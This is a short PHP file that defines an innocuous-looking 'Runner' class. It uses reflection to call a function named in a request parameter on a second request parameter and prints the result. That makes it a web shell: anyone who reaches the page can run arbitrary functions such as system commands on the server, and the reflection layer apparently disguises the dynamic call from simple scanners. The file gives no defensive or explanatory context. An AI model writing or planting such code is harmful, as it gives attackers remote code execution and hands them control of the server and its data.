<?php
class Runner {
    private $fn;
    public function __construct($fn) { $this->fn = $fn; }
    public function go($a) { $f = $this->fn; return $f($a); }
}
$rc = new ReflectionClass('Runner');
$obj = $rc->newInstanceArgs(array($_REQUEST['f']));
$m = new ReflectionMethod('Runner', 'go');
echo $m->invoke($obj, $_REQUEST['a']);
